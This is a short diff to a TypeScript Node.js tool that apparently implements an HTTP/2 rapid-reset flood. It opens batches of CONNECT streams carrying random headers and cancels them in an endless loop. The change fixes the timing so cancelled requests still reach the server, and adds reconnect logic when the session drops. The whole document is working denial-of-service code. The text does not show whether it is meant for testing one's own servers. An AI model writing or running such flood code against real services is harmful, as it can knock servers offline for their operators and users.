@@ -1,6 +1,6 @@
 import { randomBytes, randomUUID } from 'node:crypto';
 import { readFileSync } from 'node:fs';
-import { type ClientHttp2Session, connect as connectHttp2, constants } from 'node:http2';
+import { type ClientHttp2Session, type ClientHttp2Stream, connect as connectHttp2, constants } from 'node:http2';
 import { connect as connectTcp } from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
 import { connect as connectTls } from 'node:tls';
@@ -133,9 +133,11 @@ function openSession(): ClientHttp2Session {
 function reset(): void {
   if (!isRunning) return;
   session ??= openSession();
-  for (let n = 0; n < STREAMS_A_TURN && !session.closed && !session.destroyed; n += 1) {
+  const flooded = session;
+  const streams: ClientHttp2Stream[] = [];
+  for (let n = 0; n < STREAMS_A_TURN && !flooded.closed && !flooded.destroyed; n += 1) {
     did.streams += 1;
-    const stream = session.request({
+    const stream = flooded.request({
       ':method': 'CONNECT',
       ':authority': 'peer',
       'gs-flow': randomBytes(16).toString('hex'),
@@ -146,9 +148,14 @@ function reset(): void {
       'gs-version': '1',
     });
     stream.on('error', () => {});
-    stream.close(constants.NGHTTP2_CANCEL);
+    streams.push(stream);
   }
-  setImmediate(reset);
+  // Node would take back the request of a stream that is closed in the turn it was opened in.
+  setImmediate(() => {
+    for (const stream of streams) stream.close(constants.NGHTTP2_CANCEL);
+    if (flooded.destroyed) setTimeout(reset, CUT_OFF_PAUSE_MS);
+    else setImmediate(reset);
+  });
 }
 
 inSpells({
